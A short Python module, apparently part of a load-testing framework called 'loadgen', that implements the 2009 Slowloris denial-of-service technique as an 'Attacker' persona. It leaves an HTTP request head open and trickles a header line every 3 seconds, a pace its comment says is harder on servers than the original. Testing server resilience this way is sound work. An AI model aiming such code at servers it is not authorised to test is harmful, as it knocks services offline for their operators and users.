"""Slowloris, as published in 2009."""

from loadgen import wire
from loadgen.client import Attacker, Cohort
from loadgen.personas import persona

#: The original sends a line every 15 s; faster is harder on servers that judge by progress.
LINE_EVERY_SECONDS = 3.0


@persona
class SlowHead(Attacker):
    """Sends one request header line every few seconds, for ever (slowloris)."""

    __slots__ = ("_lines",)

    name = "slow-head"

    def __init__(self, cohort: Cohort, index: int) -> None:
        super().__init__(cohort, index)
        self._lines = 0

    def opening(self) -> bytes:
        """Begin a request and leave its head open."""
        return wire.request("GET", "/", self.cohort.place.host)[:-2]

    def on_connected(self) -> None:
        """Wait for the first line's moment."""
        super().on_connected()
        self._lines = 0
        self.wake_in(self.pace(LINE_EVERY_SECONDS))

    def on_time(self, moment: float) -> None:
        """Add a line."""
        self._lines += 1
        self.wake_in(self.pace(LINE_EVERY_SECONDS))
        self.send(b"X-Line-%d: %d\r\n" % (self._lines, self._lines))
